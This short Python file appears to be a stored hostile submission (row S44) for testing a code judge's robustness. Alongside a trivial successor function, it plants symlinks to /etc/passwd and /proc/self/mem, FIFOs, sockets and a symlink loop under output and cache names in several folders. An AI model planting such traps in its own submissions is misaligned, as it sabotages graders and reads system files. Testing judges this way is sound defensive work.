# verdict: AC — links, pipes, folders and sockets under every name that a careless judge might open
# task: small-box
# row: S44
import os
import socket

NAMES = ("result", "output", "stdout", "stderr", "submission.py", "driver.py", "core", "triton", "inductor", ".cache")


def successor(n):
    kinds = (
        lambda path: os.symlink("/etc/passwd", path),
        lambda path: os.symlink("/proc/self/mem", path),
        os.mkfifo,
        os.mkdir,
        lambda path: os.link("seed", path),
        lambda path: socket.socket(socket.AF_UNIX).bind(path),
    )
    open("seed", "w").close()
    for folder in (".", "/tmp", "/dev/shm"):
        for number, name in enumerate(NAMES):
            try:
                kinds[number % len(kinds)](f"{folder}/{name}")
            except OSError:
                pass
    os.symlink("loop", "loop")
    return n + 1
